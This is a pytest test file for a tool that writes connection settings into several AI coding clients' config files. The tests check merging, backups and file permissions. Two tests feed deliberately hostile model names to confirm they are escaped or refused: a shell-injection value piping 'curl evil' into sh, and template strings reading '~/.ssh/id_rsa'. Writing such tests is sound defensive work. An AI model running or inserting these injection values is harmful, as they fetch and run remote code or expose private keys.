"""Settings for other programs: what they say, and that a file keeps what else is in it."""

from __future__ import annotations

import json
import re
import shlex
import tomllib
from dataclasses import replace
from pathlib import Path

import pytest

from mlxmtp.app.connect import CLIENTS, Client, Server, text_of, write
from mlxmtp.app.remote import RemoteModel
from mlxmtp.cli import app
from mlxmtp.errors import UsageError
from tests.app.faulty import peer

OPEN = Server("http://127.0.0.1:8765", RemoteModel("gemma/26b", 65_536), locked=False)
LOCKED = replace(OPEN, locked=True)


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setattr(Path, "home", lambda: tmp_path)
    monkeypatch.setenv("HOME", str(tmp_path))
    for name in ("CLAUDE_CONFIG_DIR", "CODEX_HOME", "XDG_CONFIG_HOME", "LLM_USER_PATH", "CONTINUE_GLOBAL_DIR"):
        monkeypatch.delenv(name, raising=False)
    return tmp_path


def path_of(client: Client) -> Path:
    path = client.path()
    path.parent.mkdir(parents=True, exist_ok=True)
    return path


@pytest.mark.parametrize("name", CLIENTS)
def test_a_new_file_is_what_is_shown_and_names_server_model_and_key(home: Path, name: str) -> None:
    client = CLIENTS[name]
    for server in (OPEN, LOCKED):
        done = write(client, server)
        text = done.path.read_text()
        assert text == text_of(client, server)
        assert done.path.is_relative_to(home)
        assert OPEN.url in text
        assert "gemma/26b" in text
        assert name in ("llm", "zed") or (("MLXMTP_API_KEY" in text) == server.locked)
        done.path.unlink()


def test_forms_are_those_that_the_programs_read(home: Path) -> None:
    codex = tomllib.loads(text_of(CLIENTS["codex"], LOCKED))
    provider = codex["model_providers"][codex["model_provider"]]
    assert (provider["wire_api"], provider["env_key"]) == ("responses", "MLXMTP_API_KEY")
    for server in (OPEN, LOCKED):
        codex = tomllib.loads(text_of(CLIENTS["codex"], server))
        assert codex["model_providers"]["mlxmtp"]["stream_max_retries"] == 1
    claude = json.loads(text_of(CLIENTS["claude"], OPEN))["env"]
    assert claude["ANTHROPIC_BASE_URL"] == OPEN.url
    assert int(claude["CLAUDE_CODE_MAX_OUTPUT_TOKENS"]) < int(claude["CLAUDE_CODE_MAX_CONTEXT_TOKENS"]) == 65_536


def test_zed_is_told_of_a_key_in_any_case_and_keeps_thoughts_apart() -> None:
    zed = CLIENTS["zed"]
    assert "any word" in zed.then(OPEN)
    assert "any word" not in zed.then(LOCKED)
    assert all("MLXMTP_API_KEY" in zed.then(server) for server in (OPEN, LOCKED))
    [model] = json.loads(text_of(zed, OPEN))["language_models"]["openai_compatible"]["mlxmtp"]["available_models"]
    assert model["capabilities"]["interleaved_reasoning"] is True


def test_a_model_that_sees_gets_pictures() -> None:
    seeing = replace(OPEN, model=replace(OPEN.model, sees=True))
    differ = [name for name, client in CLIENTS.items() if text_of(client, seeing) != text_of(client, OPEN)]
    assert differ == ["opencode", "llm", "zed", "continue"]  # the others ask no one
    model = json.loads(text_of(CLIENTS["opencode"], seeing))["provider"]["mlxmtp"]["models"]["gemma/26b"]
    assert (model["attachment"], model["modalities"]["input"]) == (True, ["text", "image"])


@pytest.mark.parametrize("name", ["claude", "opencode", "zed"])
def test_json_keeps_what_else_is_there_and_a_copy(home: Path, name: str) -> None:
    client = CLIENTS[name]
    path = path_of(client)
    before = '{"env": {"A": "b"}, "provider": {"x": {}}, "theme": "dark", "language_models": {"ollama": {"u": "ü"}}}'
    path.write_text(before, encoding="utf-8")
    path.chmod(0o600)
    done = write(client, OPEN)
    table = json.loads(path.read_text(encoding="utf-8"))
    assert (table["theme"], table["language_models"]["ollama"], table["env"]["A"]) == ("dark", {"u": "ü"}, "b")
    assert "x" in table["provider"]
    assert path.stat().st_mode & 0o077 == 0
    assert done.backup is not None
    assert done.backup.read_text(encoding="utf-8") == before
    assert write(client, OPEN).backup is None  # nothing changed
    again = write(client, replace(OPEN, url="http://127.0.0.1:9000"))
    assert again.backup not in (None, done.backup)


def test_one_way_to_the_key_is_left(home: Path) -> None:
    path = path_of(CLIENTS["claude"])
    for server in (OPEN, LOCKED, OPEN):
        write(CLIENTS["claude"], server)
        assert json.loads(path.read_text()) == CLIENTS["claude"].content(server)
    path.write_text('{"apiKeyHelper": "mine", "env": {"ANTHROPIC_BASE_URL": "x"}}')
    write(CLIENTS["claude"], OPEN)
    assert json.loads(path.read_text())["apiKeyHelper"] == "mine"
    path.write_text('{"env": {"ANTHROPIC_AUTH_TOKEN": "mine"}}')
    write(CLIENTS["claude"], LOCKED)
    assert json.loads(path.read_text())["env"]["ANTHROPIC_AUTH_TOKEN"] == "mine"


def test_a_list_of_models_gets_one_entry_however_often(home: Path) -> None:
    client = CLIENTS["llm"]
    path = path_of(client)
    path.write_text("- model_id: other\n  model_name: x", encoding="utf-8")
    for server in (OPEN, LOCKED, LOCKED):
        write(client, server)
    text = path.read_text()
    assert text.startswith("- model_id: other\n  model_name: x\n# mlxmtp: begin\n")
    assert text.count('model_id: "mlxmtp"') == 1
    assert "api_key_name" in text


@pytest.mark.parametrize(
    ("name", "text"), [("zed", '// mine\n{"a": 1}'), ("claude", "[1]"), ("opencode", "{"), ("continue", "name: mine\n")]
)
def test_what_cannot_be_joined_is_left_alone(home: Path, name: str, text: str) -> None:
    path = path_of(CLIENTS[name])
    path.write_text(text, encoding="utf-8")
    with pytest.raises(UsageError, match="by hand"):
        write(CLIENTS[name], OPEN)
    assert path.read_text() == text
    assert [one.name for one in path.parent.iterdir()] == [path.name]


def test_a_folder_that_cannot_be_written_is_told(home: Path) -> None:
    (home / ".claude").write_text("a file")
    with pytest.raises(UsageError, match="by hand"):
        write(CLIENTS["claude"], OPEN)


@pytest.mark.parametrize("flags", [[], ["-m", "large"]])
def test_what_does_without_the_file_asks_the_same_server(
    home: Path, capsys: pytest.CaptureFixture[str], flags: list[str]
) -> None:
    with peer() as server:  # every server is asked for its models
        for client in ("claude", "opencode"):
            assert app.main(["connect", client, *flags, "--url", server.url]) == 0
            asked = shlex.join(["mlxmtp", "connect", client, *flags, "--url", server.url])
            assert f'"$({asked})"' in capsys.readouterr().err


def named(name: str) -> Server:
    return replace(OPEN, model=RemoteModel(name, 1000))


@pytest.mark.parametrize("name", ["x;curl evil|sh #", "$(touch x)", "`touch x`", "a b", "it's", "-x", "a\\b", "ü😀"])
def test_a_command_to_copy_has_the_name_as_one_word(name: str) -> None:
    command = CLIENTS["opencode"].then(named(name))
    assert shlex.split(command, comments=True) == ["opencode", "--model", f"mlxmtp/{name}"]
    assert CLIENTS["opencode"].then(replace(named(name), locked=True)).startswith(f"{command} (with MLXMTP_API_KEY")


@pytest.mark.parametrize(
    "name", ["{file:~/.ssh/id_rsa}", "{env:HOME}", "a}", "${{ secrets.X }}", "a\nb", "a\0", "\x7f"]
)
@pytest.mark.parametrize("client", CLIENTS)
def test_a_name_that_a_file_would_take_for_more_is_refused(home: Path, client: str, name: str) -> None:
    for act in (text_of, write):
        with pytest.raises(
            UsageError, match=r"a name that settings cannot hold: name another one with -m\.$"
        ) as caught:
            act(CLIENTS[client], named(name))
        assert name not in str(caught.value)
    assert [*home.rglob("*")] == []


@pytest.mark.parametrize("name", ["ü😀", 'a"b', "a\\u0041", "中文/模型:1", "# x", "[x]", "a'b", "\U000e0041"])
def test_a_name_comes_back_from_the_settings_as_it_was(name: str) -> None:
    codex = tomllib.loads(text_of(CLIENTS["codex"], named(name)))
    assert codex["model"] == name
    opencode = json.loads(text_of(CLIENTS["opencode"], named(name)))
    assert name in opencode["provider"]["mlxmtp"]["models"]
    for client, key in (("llm", "model_name"), ("continue", "name"), ("continue", "model")):
        [line] = re.findall(rf"^ *-? *{key}: (\".*)$", text_of(CLIENTS[client], named(name)), re.MULTILINE)
        assert json.loads(line) == name  # a quoted scalar of YAML is one of JSON where it is written so
